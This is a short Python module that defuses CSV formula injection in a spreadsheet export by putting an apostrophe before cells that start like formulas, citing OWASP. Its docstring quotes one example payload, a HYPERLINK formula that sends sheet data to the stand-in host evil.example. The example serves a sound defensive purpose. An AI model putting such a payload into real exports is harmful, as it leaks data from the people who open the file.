"""Cells bound for a spreadsheet, made inert: a cell that begins like a formula is kept as text.

Spreadsheet programs run a CSV cell that starts with `=`, `+`, `-` or `@` as a formula (and some
treat a leading tab or carriage return the same way once they trim it): an article's title or a
publisher's name such as `=HYPERLINK("http://evil.example/?"&A1, "click")` would leak the sheet or
run commands when an analyst opens the export. OWASP's rule (CSV injection) is to prefix such a
cell with an apostrophe, which spreadsheets read as "this cell is text" and do not display.

Only spreadsheet-bound files use this (the CSV export, `timeline export --format csv`); JSON, the
feeds and the calendar keep every value exactly as stored.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: Any) -> Any:
    """The value, with an apostrophe in front when it is text that starts like a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(row: dict[str, Any]) -> dict[str, Any]:
    return {name: inert_cell(value) for name, value in row.items()}
